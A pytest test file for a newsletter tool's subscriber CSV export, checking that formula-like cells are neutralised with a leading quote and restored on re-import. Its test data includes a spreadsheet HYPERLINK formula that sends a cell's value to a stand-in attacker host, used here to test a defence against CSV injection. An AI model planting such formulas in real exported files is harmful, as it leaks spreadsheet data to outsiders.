"""Subscriber CSV output is safe to open in a spreadsheet, and re-imports to the same values."""

import csv
import io
import json

import pytest

from pain_news.subscribers_csv import neutralise, restore

FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"Open")'


@pytest.mark.parametrize(
    "cell, written",
    [
        (FORMULA, "'" + FORMULA),
        ("+1 555", "'+1 555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ana", "Ana"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_get_a_quote_and_lose_it_again(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell


def _rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_export_and_list_neutralise_formulas_and_the_export_reimports_unchanged(project, run_cli, store):
    store.add("ana@example.org", FORMULA, "-Lopez", ["@vip"])
    store.add("ben@example.org", "Ben", "+Ortiz")
    store.unsubscribe("ben@example.org")

    listed = _rows(run_cli("subscribers", "list", "--format", "csv").stdout)
    assert listed[0]["first_name"] == "'" + FORMULA
    assert listed[0]["last_name"] == "'-Lopez"
    assert listed[0]["tags"] == "'@vip"
    assert listed[1]["last_name"] == "'+Ortiz"

    run_cli("subscribers", "export", "backup.csv")
    exported = _rows((project / "backup.csv").read_text(encoding="utf-8"))
    assert exported[0]["first_name"] == "'" + FORMULA and exported[1]["last_name"] == "'+Ortiz"
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported for cell in row.values()
    )

    fresh = {"PAIN_NEWS_DATABASE_URL": f"sqlite:///{project / 'fresh.db'}"}
    run_cli("subscribers", "import", "backup.csv", env=fresh)
    records = {
        r["email"]: r
        for r in json.loads(run_cli("subscribers", "list", "--format", "json", env=fresh).stdout)
    }
    assert records["ana@example.org"]["first_name"] == FORMULA
    assert records["ana@example.org"]["last_name"] == "-Lopez"
    assert records["ana@example.org"]["tags"] == ["@vip"]
    assert records["ben@example.org"]["last_name"] == "+Ortiz"
    assert records["ben@example.org"]["status"] == "unsubscribed"
